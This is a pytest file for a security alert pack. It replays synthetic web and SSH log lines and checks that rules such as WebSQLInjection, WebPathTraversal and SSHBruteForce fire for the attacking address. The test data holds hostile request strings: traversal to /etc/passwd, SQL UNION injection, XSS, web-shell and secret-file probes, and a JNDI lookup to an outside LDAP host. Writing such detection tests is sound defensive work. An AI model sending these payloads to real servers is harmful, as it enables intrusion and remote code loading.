"""Attacks for which nobody's logs are here, as lines that servers write: parsed by us, raised by our pack."""

from collections.abc import Iterable
from functools import cache

import pytest

from collectors.formats.model import Parser
from schemas.events import time_ms
from tests.security.replay import Replay, events, pack, parser, shop

_NOW_MS = 1_800_000_000_000
BAD, GOOD = "203.0.113.7", "198.51.100.4"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

program = cache(pack)


def raised(lines: Iterable[str], *parsers: Parser) -> set[tuple[str, str]]:
    happened = list(events(lines, parsers, _NOW_MS))
    assert happened
    replay = Replay(program(), min(time_ms(event) or 0 for event in happened))
    replay.tell(happened)
    replay.end()
    return {(alert.alertname, alert.labels.get("source_ip", "")) for alert in replay.firing}


def access(
    *paths: str, every_s: float = 1, ip: str = BAD, status: int = 404, method: str = "GET", agent: str = BROWSER
) -> list[str]:
    """Lines of an access log, one request after the other."""
    lines = []
    for number, path in enumerate(paths):
        minute, second = divmod(int(number * every_s), 60)
        at = f"03/Mar/2025:10:{minute:02d}:{second:02d} +0000"
        lines.append(f'{ip} - - [{at}] "{method} {path} HTTP/1.1" {status} 162 "-" "{agent}"')
    return lines


def of_web(lines: list[str]) -> set[str]:
    """What the one address has done, as nginx and as Apache log it; the like of it by another raises nothing."""
    as_nginx = raised(lines, parser("nginx", timezone="UTC"))
    assert as_nginx == raised(lines, parser("apache", timezone="UTC"))
    assert {ip for _, ip in as_nginx} <= {BAD}
    return {name for name, _ in as_nginx}


PAGES = [f"/page-{number}.html" for number in range(60)]
FORGOTTEN = ["/.env", "/.git/config", "/backup/site.sql", "/index.php.bak", "/server.key"]
SHELLS = ["/c99.php", "/images/r57.php"]
UPWARDS = [f"/?page={'../' * number}etc/passwd" for number in range(1, 5)]
SQL = [f"/item.php?id={number}%27%20UNION%20ALL%20SELECT%20NULL,NULL--%20-" for number in range(11)]
SCRIPTS = [f"/?q=%22%3E%3Cscript%3Ealert({number})%3C/script%3E" for number in range(6)]


@pytest.mark.parametrize(
    ("lines", "names"),
    [
        (access(*PAGES[:11]) + access(*PAGES[:10], ip=GOOD), {"WebProbing"}),
        (access(*PAGES[:41], every_s=0.4, status=200) + access(*PAGES, ip=GOOD, status=200), {"WebCrawling"}),
        (access(*FORGOTTEN) + access(*FORGOTTEN[:4], ip=GOOD), {"WebSensitiveFileProbing"}),
        (access(*SHELLS) + access(SHELLS[0], ip=GOOD), {"WebShellProbing"}),
        (access("/sap/bc/ping", "/irj/portal") + access("/irj/portal", ip=GOOD), {"WebSAPProbing"}),
        (access(*UPWARDS, status=200) + access(*UPWARDS[:3], ip=GOOD), {"WebPathTraversal"}),
        (access("/cgi-bin/.%2e/.%2e/.%2e/etc/hosts", status=400), {"WebEncodedPathTraversal"}),
        (access("/icons/%%32%65%%32%65/%%32%65%%32%65/etc/hosts", status=400), {"WebEncodedPathTraversal"}),
        (access(*SQL, status=200) + access(*SQL[:10], ip=GOOD), {"WebSQLInjection"}),
        (access(*SCRIPTS, status=200) + access(*SCRIPTS[:5], ip=GOOD), {"WebCrossSiteScripting"}),
        (access("/", "/", agent="masscan/1.3") + access("/", ip=GOOD, agent="masscan/1.3"), {"WebScannerUserAgent"}),
        (access("/w00tw00t.at.somewhere:)", status=400), {"WebScanner"}),
        (access("example.org:443", method="CONNECT", status=405), {"WebOpenProxyProbing"}),
        (access("http://example.org/", status=400) + access("/", ip=GOOD, status=400), {"WebOpenProxyProbing"}),
        (access(*["/api/token"] * 6, method="POST", status=401), {"WebLoginBruteForce"}),
        (access(*["/api/token"] * 6, method="POST", status=403), {"WebLoginBruteForce"}),
        (access(*["/apps/login"] * 6, method="POST", status=200), {"WebLoginBruteForce"}),
        (access(*["/xmlrpc.php"] * 6, every_s=100, method="POST", status=200), {"WebWordPressXMLRPCBruteForce"}),
        (access(*["/"] * 20, method="DEBUG", status=405) + access(*["/"] * 20, ip=GOOD), {"WebInvalidMethods"}),
        (access("/?x=${jndi:ldap://203.0.113.7/a}", status=200), {"WebCodeInjection"}),
    ],
    ids=lambda value: "+".join(sorted(value)) if isinstance(value, set) else "",
)
def test_attacks_on_web_servers_are_told_of_by_name(lines: list[str], names: set[str]) -> None:
    """Each by its rule and no other, for who attacked."""
    assert of_web(lines) == names


def test_visitors_of_a_web_server_raise_nothing() -> None:
    """Pages with all that belongs to them, searches, forms, downloads and a few broken links."""
    lines = access("/", "/a.css", "/b.js", "/img/1.png", "/img/2.jpg", "/favicon.ico", ip=GOOD, status=200)
    lines += access(*[f"/search?q=select+a+chair+{number}" for number in range(12)], ip=GOOD, status=200)
    lines += access("/login", "/cart", "/checkout", ip=GOOD, status=302, method="POST")
    lines += access("/old", "/old2", "/robots.txt", "/apple-touch-icon.png", "/wp-login.php", ip=GOOD)
    lines += access(*[f"/dl/app-{number}.tar.gz" for number in range(12)], ip=GOOD, status=200)
    assert of_web(lines) == set()


def test_wrong_passwords_in_error_logs_are_told_of() -> None:
    """As nginx and as Apache put them."""
    nginx = [
        f'2025/03/03 10:00:0{number} [error] 7#7: *{number} user "ann" was not found in "/etc/nginx/passwords", '
        f'client: {BAD}, server: example.org, request: "GET /private HTTP/1.1", host: "example.org"'
        for number in range(6)
    ]
    apache = [
        f"[Mon Mar 03 10:00:0{number}.123456 2025] [auth_basic:error] [pid 7:tid 9] [client {BAD}:4022] "
        'AH01617: user ann: authentication failure for "/private": Password Mismatch'
        for number in range(6)
    ]
    assert raised(nginx, parser("nginx", timezone="UTC")) == {("WebBasicAuthBruteForce", BAD)}
    assert raised(apache, parser("apache", timezone="UTC")) == {("WebBasicAuthBruteForce", BAD)}


def test_the_limit_of_nginx_is_told_of() -> None:
    """For who goes on above it."""
    lines = [
        f'2025/03/03 10:00:0{number} [error] 7#7: *{number} limiting requests, excess: 5.6 by zone "all", '
        f'client: {BAD}, server: example.org, request: "GET / HTTP/1.1", host: "example.org"'
        for number in range(6)
    ]
    assert raised(lines, parser("nginx", timezone="UTC")) == {("WebRateLimitExceeded", BAD)}


def test_cards_that_are_tried_out_are_told_of() -> None:
    """From a log that only a pattern of the configuration describes."""
    lines = [
        f'[2025-03-03 10:00:0{n}] shop.INFO:  {{"type":"PAYMENT_FAILED","ip":"{BAD}","x":""}} []' for n in range(4)
    ]
    assert raised(lines, shop()) == {("MagentoCardTesting", BAD)}


def sshd(*messages: str, every_s: int = 2, program: str = "sshd") -> list[str]:
    return [
        f"Mar  3 10:{number * every_s // 60:02d}:{number * every_s % 60:02d} web1 {program}[{4000 + number}]: {message}"
        for number, message in enumerate(messages)
    ]


@pytest.mark.parametrize(
    ("lines", "names"),
    [
        (sshd(*[f"Failed password for root from {BAD} port 4022 ssh2"] * 6), {"SSHBruteForce"}),
        (sshd(*[f"Failed password for root from {BAD} port 4022 ssh2"] * 5), set()),
        (sshd(*[f"Connection closed by authenticating user root {BAD} port 4022 [preauth]"] * 6), {"SSHBruteForce"}),
        (
            sshd(*[f"Failed password for invalid user u{n} from {BAD} port 4022 ssh2" for n in range(6)]),
            {"SSHBruteForce", "SSHUserEnumeration"},
        ),
        (
            sshd(*[f"Invalid user u{n} from {BAD} port 4022" for n in range(11)], every_s=50),
            {"SSHBruteForce", "SSHUserEnumeration"},
        ),
        (
            sshd(*[f"message repeated 5 times: [ Failed password for root from {BAD} port 4022 ssh2]"]),
            {"SSHBruteForce"},
        ),
        (
            sshd(
                *[f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={BAD}"] * 6,
                program="sshd-session",
            ),
            {"SSHBruteForce"},
        ),
        (
            sshd(
                *[f"Failed password for root from {BAD} port 4022 ssh2"] * 6,
                f"Accepted password for root from {BAD} port 4022 ssh2",
            ),
            {"SSHBruteForce", "SSHAcceptedAfterBruteForce"},
        ),
        (sshd(f"refused connect from host.example ({BAD})"), {"SSHRefusedConnection"}),
        (
            sshd(
                *[f"Unable to negotiate with {BAD} port 4022: no matching cipher found. Their offer: x [preauth]"] * 6
            ),
            {"SSHKeyExchangeFailures"},
        ),
        (sshd(*[f"fatal: Timeout before authentication for {BAD} port 4022"] * 3, every_s=100), set()),
    ],
)
def test_attacks_on_sshd_are_told_of_by_name(lines: list[str], names: set[str]) -> None:
    """Whatever of its sentences tells of them."""
    assert raised(lines, parser("auth", timezone="UTC")) == {(name, BAD) for name in names}
